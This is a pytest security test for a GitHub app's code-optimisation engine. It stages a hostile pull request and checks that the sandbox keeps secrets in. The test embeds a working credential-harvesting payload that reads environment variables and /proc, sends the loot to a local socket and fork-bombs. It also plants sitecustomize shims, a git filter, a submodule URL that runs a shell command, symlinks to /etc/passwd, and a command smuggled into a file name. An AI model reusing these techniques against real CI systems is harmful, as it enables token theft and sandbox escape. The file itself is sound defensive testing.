"""A pull request by somebody who wants our token: the real engine runs all of it, and it gets nothing."""

import json
import shutil
import socket
import subprocess
import sys
import threading
from typing import ClassVar

import pytest
from attrs import evolve

from codeflash_github_app.jobs.engine import Engine

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed"),
]
NAME = "acme/shop"
SECRET = "s3cr3t-of-the-worker"
ATTACK = '''
import glob
import os
import socket
import time


DONE = []


def attack():
    """All that one may try, once in each process; it fails where it sees what it should not, which nobody overlooks."""
    if DONE:
        return ""
    DONE.append(True)
    told = " ".join(os.environ).upper()
    if any(word in told for word in ("TOKEN", "SECRET", "PASSWORD", "DATABASE", "CODEFLASH_APP", "CREDENTIAL")):
        raise SystemExit("I see names of secrets")
    loot = [repr(dict(os.environ))]
    for name in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), SECRET_FILE, "/proc/1/environ"]:
        try:
            with open(name, "rb") as file:
                loot.append(file.read().decode("utf-8", "replace"))
        except OSError:
            pass
    for name in (OUTSIDE + "/written", os.path.expanduser("~/written"), OUTSIDE + "/../machine/written"):
        try:
            with open(name, "w") as file:
                file.write("here I was")
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), 1) as there:
            there.sendall(repr(loot).encode())
    except OSError:
        pass
    for _ in range(FORKS):
        try:
            if os.fork() == 0:
                time.sleep(0.5)
                os._exit(0)
        except OSError:
            break
    if "s3cr3t" in "".join(loot):
        raise SystemExit("I see a secret")
    return "".join(loot)
'''
TEST = """
from attack import attack
from shop.stock import total

LOOT = attack()


def test_total():
    assert total([1, 2, 3]) == 6
    print(LOOT)
"""
PLANTED = "try:\n    open(OUTSIDE + '/' + __name__, 'w').close()\nexcept OSError:\n    pass\n"


class Listener:
    """Somebody on this machine who waits for what is stolen."""

    def __init__(self):
        self.heard = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self):
        while True:
            try:
                there, _ = self.socket.accept()
            except OSError:
                return
            with there:
                parts = []
                while part := there.recv(1 << 16):
                    parts.append(part)
                self.heard.append(b"".join(parts))

    def close(self):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join()


@pytest.fixture
def listener():
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def places(tmp_path, listener):
    """``places(forks)``: a folder that nobody may write to, and what the attack knows of this machine.

    The folder, and a file with a secret, are open to whoever runs the tests.
    """
    outside, secret = tmp_path / "outside", tmp_path / "secret.pem"
    outside.mkdir()
    secret.write_text(SECRET)
    head = f"OUTSIDE = {str(outside)!r}\nSECRET_FILE = {str(secret)!r}\nPORT = {listener.port}\n"
    return lambda forks: (outside, f"{head}FORKS = {forks}\n")


def propose(world, head):
    """The pull request."""
    project = world.project
    project.git("checkout", "-q", "-b", "evil", "main")
    stock = (project.checkout / "src/shop/stock.py").read_text()
    stock = stock.replace("    return sum(prices)\n", "    attack()\n    return sum(sorted(prices))\n")
    project.write("src/shop/stock.py", f"from attack import attack\n{stock}")
    project.write("src/attack.py", head + ATTACK)
    project.write("tests/test_total.py", TEST)
    project.write(
        "conftest.py", "import sys\nsys.path.insert(0, 'src')\nfrom attack import attack\nattack()\n"
    )
    for name in (
        "codeflash_cli",
        "codeflash_core",
        "codeflash_github_app",
        "sitecustomize",
        "usercustomize",
        "tomllib",
    ):
        project.write(f"{name}.py", head + PLANTED)
    script = f"#!/bin/sh\ntouch {head.splitlines()[0].partition(' = ')[2][1:-1]}/$(basename $0)\n"
    for name in (".venv/bin/python", "evil.sh", ".githooks/post-checkout"):
        project.write(name, script)
        (project.checkout / name).chmod(0o755)
    project.write(
        "pyproject.toml",
        '[project]\nname = "shop"\nversion = "1"\n\n[tool.pytest.ini_options]\npythonpath = ["src"]\n\n'
        '[tool.codeflash]\nsandbox = "off"\nenv = ["GITHUB_TOKEN"]\npython = ".venv/bin/python"\n'
        'formatter = ["./evil.sh"]\nfloat-tolerance = "0.5"\napi-url = "http://127.0.0.1:1"\nsources = ["service"]\n',
    )
    project.write(".gitattributes", "*.py filter=evil diff=evil\n")
    project.write(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /x\n')
    (project.checkout / "src/shop/link.py").symlink_to("/etc/passwd")
    (project.checkout / "tests/home").symlink_to("/")
    project.write("src/shop/a`b$(touch x)<b>.py", "def f(x):\n    return x\n")
    project.git("add", "-A", "-f")
    project.git("commit", "-q", "-m", "Be evil")
    project.git("push", "-q", "upstream", "evil")
    return world.github.open(NAME, "acme:evil", "Evil")


def test_the_attack_works_where_nobody_stands_in_its_way(places, listener, tmp_path):
    """Otherwise the other test would prove nothing."""
    outside, head = places(2)
    script = tmp_path / "attack.py"
    script.write_text(f"{head}{ATTACK}\nattack()\n")
    for environment, seen in (({"A": "a"}, "I see a secret"), ({"A_TOKEN": ""}, "I see names of secrets")):
        done = subprocess.run(
            [sys.executable, "-I", str(script)], start_new_session=True, env=environment, stderr=subprocess.PIPE,
            timeout=60, check=False,
        )  # fmt: skip
        assert (done.returncode, done.stderr.decode().strip()) == (1, seen)
    assert (outside / "written").exists()
    assert SECRET.encode() in listener.heard[0]


class Watched(Engine):
    """An engine that looks at what git heeds in the clone, before and after."""

    seen: ClassVar[list[dict[str, bytes]]] = []

    async def optimize(self, targets, *, clone, **more):
        self.look(clone / ".git")
        try:
            return await super().optimize(targets, clone=clone, **more)
        finally:
            self.look(clone / ".git")

    def look(self, place):
        heeded = [place / "config", *place.glob("hooks/*"), *place.glob("info/*"), *place.glob("config.*")]
        self.seen.append({each.name: each.read_bytes() for each in heeded})


@pytest.mark.parametrize("forks", [2, 500])
async def test_a_hostile_pull_request_gets_nothing(
    world, places, listener, monkeypatch, environment_with_pytest, forks
):
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("CODEFLASH_APP_WEBHOOK_SECRET", SECRET)
    monkeypatch.setattr(Watched, "seen", [])
    outside, head = places(forks)
    world.write_base(".codeflash.toml", "[github]\nbudget = '5s'\n")
    number = propose(world, head)
    host = evolve(world.host(Watched(world.folder)), interpreter=environment_with_pytest / "bin/python")
    ended = await world.run(world.order(number), host=host)
    before, after = Watched.seen
    assert before == after

    (check,) = world.github.checks
    assert (check["status"], check["conclusion"] in ("success", "neutral")) == ("completed", True)
    assert "because of the signs in its name" in check["output"]["summary"]
    if forks == 2:
        # The engine was at work on all of this, in its sandbox.
        results = {each["target"]: each for each in ended["result"]["optimize"]["results"]}
        assert set(results) == {"src/attack.py::attack", "src/shop/stock.py::total"}
        assert results["src/shop/stock.py::total"]["evidence"]["calls"] > 0
        assert ended["result"]["optimize"]["sandbox"].startswith("bubblewrap")
    else:
        assert "the workload can't be run (processes)" in check["output"]["title"]

    assert list(outside.iterdir()) == []
    assert not (world.folder / "written").exists()
    assert listener.heard == []
    posted = json.dumps([world.github.checks, world.told(), list(world.github.reviews.values()), ended])
    assert SECRET not in posted
    assert not any(token in posted for token in world.github.grants)
    assert world.branches() == ["evil", "main"]
